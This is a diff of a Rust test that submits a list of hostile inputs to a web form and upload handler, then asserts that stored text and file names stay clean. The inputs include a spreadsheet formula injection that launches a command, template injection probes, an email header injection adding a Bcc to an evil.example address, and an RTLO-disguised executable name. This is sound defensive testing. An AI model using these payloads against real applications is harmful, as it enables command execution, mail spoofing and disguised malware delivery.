@@ -15,7 +15,7 @@ const POISON: [&str; 7] = [
     "=cmd|'/C calc'!A1",
     "{{7*7}}${7*7}",
     "Zoé\r\nBcc: eve@evil.example",
-    "Zoé \u{202e}gpj.exe\0",
+    "Zoé \u{202e}gpj.exe",
 ];
 
 fn hostile_words_and_names_stay_text(place: Place) {
@@ -24,8 +24,7 @@ fn hostile_words_and_names_stay_text(place: Place) {
     let (mut rose, mut marie) = (enters(&site, ROSE), enters(&site, MARIE));
     for (rank, poison) in (1..).zip(POISON) {
         let fields = [("sujet", ENTRY), ("message", poison), ("piece", poison)];
-        // No browser sends a name with a NUL.
-        let name = format!("{}.pdf", poison.replace('\0', ""));
+        let name = format!("{poison}.pdf");
         send(&mut rose, ASK, &fields, &[(&name, PDF)])
             .leads_to(&format!("/a/vert/questions/{rank}"));
         send(&mut rose, ASK, &[("sujet", poison), ("message", "x")], &[]).is(404);
@@ -45,7 +44,7 @@ fn hostile_words_and_names_stay_text(place: Place) {
     }
     let kept = pole.texts("SELECT body FROM question_message");
     assert!(kept.iter().any(|body| body == POISON[0]), "{kept:?}");
-    assert!(kept.iter().all(|body| !body.contains(['\0', '\r', '\u{202e}'])), "{kept:?}");
+    assert!(kept.iter().all(|body| !body.contains(['\r', '\u{202e}'])), "{kept:?}");
     let names = pole.texts("SELECT name FROM question_document");
     assert!(
         names.iter().all(|name| !name.contains(['\r', '\n', '<', '"', '\u{202e}'])),
